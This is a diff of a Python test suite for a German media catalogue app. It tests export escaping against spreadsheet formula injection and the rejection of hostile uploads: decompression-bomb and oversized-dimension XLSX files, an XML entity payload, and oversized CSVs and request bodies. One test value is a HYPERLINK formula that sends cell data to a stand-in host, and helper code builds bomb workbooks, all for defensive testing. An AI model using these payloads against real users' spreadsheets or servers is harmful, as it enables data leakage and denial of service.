@@ -1,11 +1,18 @@
 import asyncio
+import csv
 import io
+import zipfile
+from dataclasses import replace
 
+import pytest
 from openpyxl import Workbook
 
-from mediathek.catalogue import import_jobs
+from mediathek.app import create_app
+from mediathek.catalogue import import_jobs, imports
 from mediathek.catalogue.tables import Component, Copy, ImportJob, Title, TitleLanguage
+from mediathek.web.auth import SESSION_COOKIE, start_session
 from tests.catalogue_fixtures import make_title
+from tests.conftest import arm_csrf, http_client
 
 GOOD_CSV = (
     "Titel;ISBN;Medienart;Sprachen;Niveau von;Niveau bis;Alter von;Alter bis;Schlagwörter;"
@@ -126,6 +133,35 @@ async def test_export_csv_can_be_imported_again_without_duplicates(client_for, s
     assert await Title.count() == 1
 
 
+async def test_export_quotes_cells_that_spreadsheets_would_run_as_formulas(client_for, staff):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Hier klicken")'
+    await make_title(title=formula, publisher="+49 Verlag", description="@SUMME(A1)", copies=1)
+    await make_title(title="-5 Grad", isbn="", year="2020", publisher="-Verlag")
+    async with client_for(staff) as c:
+        r = await c.get("/verwaltung/export.csv")
+        rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=";"))
+        assert [row["Titel"] for row in rows] == ["'" + formula, "'-5 Grad"]
+        assert [row["Verlag"] for row in rows] == ["'+49 Verlag", "'-Verlag"]
+        assert rows[0]["Beschreibung"] == "'@SUMME(A1)"
+        assert rows[0]["Exemplare"] == "1" and rows[1]["Jahr"] == "2020"  # numbers stay numbers
+        # The import takes the apostrophe off: the same titles are recognised, none added.
+        job = await upload(c, "export.csv", r.content, "import")
+    assert job["status"] == "done" and job["created_titles"] == 0
+    assert "2 Titel sind schon im Bestand" in job["page"]
+    assert await Title.count() == 2
+
+
+async def test_an_imported_formula_like_title_is_stored_as_text_without_the_apostrophe(
+    client_for, staff
+):
+    content = b"Titel;Verlag\n'=1+1;'-Verlag\n"
+    async with client_for(staff) as c:
+        job = await upload(c, "liste.csv", content, "import")
+    assert job["status"] == "done", job["errors"]
+    row = await Title.select(Title.title, Title.publisher).first()
+    assert row == {"title": "=1+1", "publisher": "-Verlag"}
+
+
 async def test_a_running_import_polls_with_a_self_replacing_fragment(client_for, staff):
     row = await ImportJob.insert(
         ImportJob(filename="gross.csv", status="running", total_rows=10_000, done_rows=2_500)
@@ -140,3 +176,213 @@ async def test_a_running_import_polls_with_a_self_replacing_fragment(client_for,
         await ImportJob.update({ImportJob.status: "done"}).where(ImportJob.id == job_id)
         done = await c.get(f"/verwaltung/import/{job_id}", headers={"HX-Request": "true"})
     assert "hx-get" not in done.text  # finished: polling stops
+
+
+# ---- uploads that try to stall or exhaust the server ------------------------------------------
+
+
+def tiny_xlsx(sheet_rows: str, dimension: str, shared_strings: str | None = None) -> bytes:
+    """A workbook written by hand, the way an attacker would: every part as small as it gets."""
+    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    pkg = "http://schemas.openxmlformats.org/package/2006"
+    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+    parts = {
+        "[Content_Types].xml": f'<Types xmlns="{pkg}/content-types">'
+        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
+        '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
+        f'<Override PartName="/xl/workbook.xml" ContentType="{ct}.sheet.main+xml"/>'
+        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ct}.worksheet+xml"/>'
+        + (
+            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{ct}.sharedStrings+xml"/>'
+            if shared_strings
+            else ""
+        )
+        + "</Types>",
+        "_rels/.rels": f'<Relationships xmlns="{pkg}/relationships"><Relationship Id="r1" '
+        f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+        "xl/workbook.xml": f'<workbook {ns} xmlns:r="{rel}"><sheets><sheet name="Bestand" '
+        'sheetId="1" r:id="r1"/></sheets></workbook>',
+        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{pkg}/relationships">'
+        f'<Relationship Id="r1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
+        + (
+            f'<Relationship Id="r2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'
+            if shared_strings
+            else ""
+        )
+        + "</Relationships>",
+        "xl/worksheets/sheet1.xml": f'<worksheet {ns}><dimension ref="{dimension}"/>'
+        f"<sheetData>{sheet_rows}</sheetData></worksheet>",
+    }
+    if shared_strings:
+        parts["xl/sharedStrings.xml"] = f"<sst {ns}>{shared_strings}</sst>"
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, text in parts.items():
+            archive.writestr(name, text)
+    return buffer.getvalue()
+
+
+def cell_row(number: int, *values: str) -> str:
+    cells = "".join(
+        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
+        for i, v in enumerate(values)
+    )
+    return f'<row r="{number}">{cells}</row>'
+
+
+async def test_an_xlsx_declaring_a_million_rows_and_columns_is_read_as_what_it_holds(
+    client_for, staff
+):
+    # 1.5 KB declaring A1:XFD1048576: read as declared, it becomes 17 billion cells.
+    bomb = tiny_xlsx(
+        cell_row(1, "Titel", "Medienart") + cell_row(2, "Memo Obst", "Spiel"),
+        dimension="A1:XFD1048576",
+    )
+    assert len(bomb) < 1600
+    async with client_for(staff) as c:
+        job = await upload(c, "bestand.xlsx", bomb, "import")
+    assert job["status"] == "done", job["errors"]
+    assert (job["total_rows"], job["created_titles"]) == (1, 1)
+    assert await Title.count() == 1
+
+
+async def test_an_xlsx_with_a_row_far_away_stops_at_the_limit_of_empty_rows(client_for, staff):
+    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    bomb = tiny_xlsx(
+        cell_row(1, "Titel") + cell_row(2, "Memo Obst") + far, dimension="A1:XFD1048576"
+    )
+    async with client_for(staff) as c:
+        job = await upload(c, "bestand.xlsx", bomb, "import")
+    assert job["status"] == "failed"
+    message = job["errors"][0]["message"]
+    assert "mehr als 10.000 leere Zeilen" in message and "nicht weiter gelesen" in message
+    assert "Zeile 10.003" in message  # header, one title, then 10,000 empty rows were read
+    assert await Title.count() == 0
+
+
+async def test_an_xlsx_that_unpacks_to_too_much_is_refused_before_it_is_parsed(client_for, staff):
+    # ~60 MB of shared strings that deflate packs into well under 100 KB.
+    bomb = tiny_xlsx(
+        cell_row(1, "Titel") + cell_row(2, "Memo Obst"),
+        dimension="A1:A2",
+        shared_strings="<si><t>a</t></si>" * 3_600_000,
+    )
+    assert len(bomb) < 200_000
+    async with client_for(staff) as c:
+        job = await upload(c, "bestand.xlsx", bomb, "dry_run")
+    assert job["status"] == "failed"
+    assert "entpackt zu groß" in job["errors"][0]["message"]
+    assert "entpackt zu groß" in job["page"]
+
+
+async def test_an_xlsx_with_xml_entities_is_refused(client_for, staff):
+    # Excel never writes a DTD; one in a sheet is an attempt at entity expansion.
+    bomb = tiny_xlsx(cell_row(1, "Titel") + cell_row(2, "&lol;"), dimension="A1:A2")
+    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
+        parts = {n: archive.read(n) for n in archive.namelist()}
+    parts["xl/worksheets/sheet1.xml"] = (
+        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY lol "Memo Obst">]>'
+        + parts["xl/worksheets/sheet1.xml"]
+    )
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    async with client_for(staff) as c:
+        job = await upload(c, "bestand.xlsx", buffer.getvalue(), "import")
+    assert job["status"] == "failed"
+    assert "Die Excel-Datei lässt sich nicht öffnen" in job["errors"][0]["message"]
+    assert await Title.count() == 0
+
+
+async def test_a_csv_beyond_the_row_limit_stops_at_the_limit_with_a_message(client_for, staff):
+    limit = imports.MAX_ROWS
+    lines = ["Titel;Jahr", *(f"Titel {i};2020" for i in range(limit + 500))]
+    async with client_for(staff) as c:
+        job = await upload(c, "gross.csv", "\n".join(lines).encode(), "dry_run")
+    assert job["status"] == "failed"
+    assert job["done_rows"] == limit  # read up to the limit, not a row further
+    message = job["errors"][0]["message"]
+    assert "Höchstens 50.000 Titel auf einmal" in message
+    assert "bis Zeile 50.001" in message and "nichts gespeichert" in message
+    assert "Höchstens 50.000 Titel auf einmal" in job["page"]
+    assert await Title.count() == 0
+
+
+@pytest.fixture
+def small_upload_app(settings, db):
+    return create_app(replace(settings, max_upload_mb=1), engine=db, own_pool=False)
+
+
+async def test_an_upload_over_the_limit_gets_413_with_a_german_message(small_upload_app, staff):
+    async with http_client(small_upload_app) as c:
+        c.cookies.set(SESSION_COOKIE, await start_session(staff.account_id))
+        await arm_csrf(c)
+        for size in (1024 * 1024 + 1, 3 * 1024 * 1024):  # just over; far over (never read)
+            content = b"Titel\n" + b"x" * size
+            page = await c.post(
+                "/verwaltung/import",
+                files={"file": ("gross.csv", content)},
+                data={"mode": "import"},
+            )
+            assert page.status_code == 413, size
+            assert page.headers["content-type"].startswith("text/html")
+            assert "Die Datei ist zu groß: höchstens 1 MB auf einmal" in page.text
+            api = await c.post(
+                "/verwaltung/import",
+                files={"file": ("gross.csv", content)},
+                data={"mode": "import"},
+                headers={"Accept": "application/json"},
+            )
+            assert api.status_code == 413
+            assert api.headers["content-type"] == "application/problem+json"
+            assert api.json()["status"] == 413
+            assert "höchstens 1 MB" in api.json()["detail"]
+        # Everywhere under /api/ as well: no request body is read beyond the limit.
+        r = await c.post(
+            "/api/v1/titles",
+            content=b"{" + b" " * (2 * 1024 * 1024) + b"}",
+            headers={"content-type": "application/json"},
+        )
+        assert r.status_code == 413 and r.json()["detail"].startswith("Die Datei ist zu groß")
+    assert await ImportJob.count() == 0
+
+
+# ---- an import interrupted by the end of its process ----------------------------------------
+
+
+async def test_an_import_interrupted_while_writing_is_marked_failed_when_the_app_starts(
+    app, client_for, staff
+):
+    # The state a killed process leaves behind: the job says "writing", nobody runs it.
+    rows = await ImportJob.insert(
+        ImportJob(filename="bestand.csv", dry_run=False, status="writing", total_rows=800),
+        ImportJob(filename="probe.csv", status="running", total_rows=800, done_rows=500),
+    ).returning(ImportJob.id)
+    writing, checking = (r["id"] for r in rows)
+    async with app.lifespan():
+        pass
+    job = await import_jobs.get_job(writing)
+    assert job["status"] == "failed" and job["finished_at"] is not None
+    assert "beim Speichern unterbrochen" in job["errors"][0]["message"]
+    assert "nichts übernommen" in job["errors"][0]["message"]
+    job = await import_jobs.get_job(checking)
+    assert job["status"] == "failed"
+    assert "Prüfung der Datei wurde unterbrochen" in job["errors"][0]["message"]
+    async with client_for(staff) as c:
+        page = await c.get(f"/verwaltung/import/{writing}")
+    assert "beim Speichern unterbrochen" in page.text and "hx-get" not in page.text
+
+
+async def test_an_import_still_running_in_another_process_is_left_alone_at_start(app, settings):
+    row = await ImportJob.insert(
+        ImportJob(filename="bestand.csv", dry_run=False, status="writing")
+    ).returning(ImportJob.id)
+    job_id = row[0]["id"]
+    async with import_jobs.job_running(settings, job_id), app.lifespan():
+        pass
+    assert (await import_jobs.get_job(job_id))["status"] == "writing"
+    async with app.lifespan():  # its process has ended meanwhile
+        pass
+    assert (await import_jobs.get_job(job_id))["status"] == "failed"
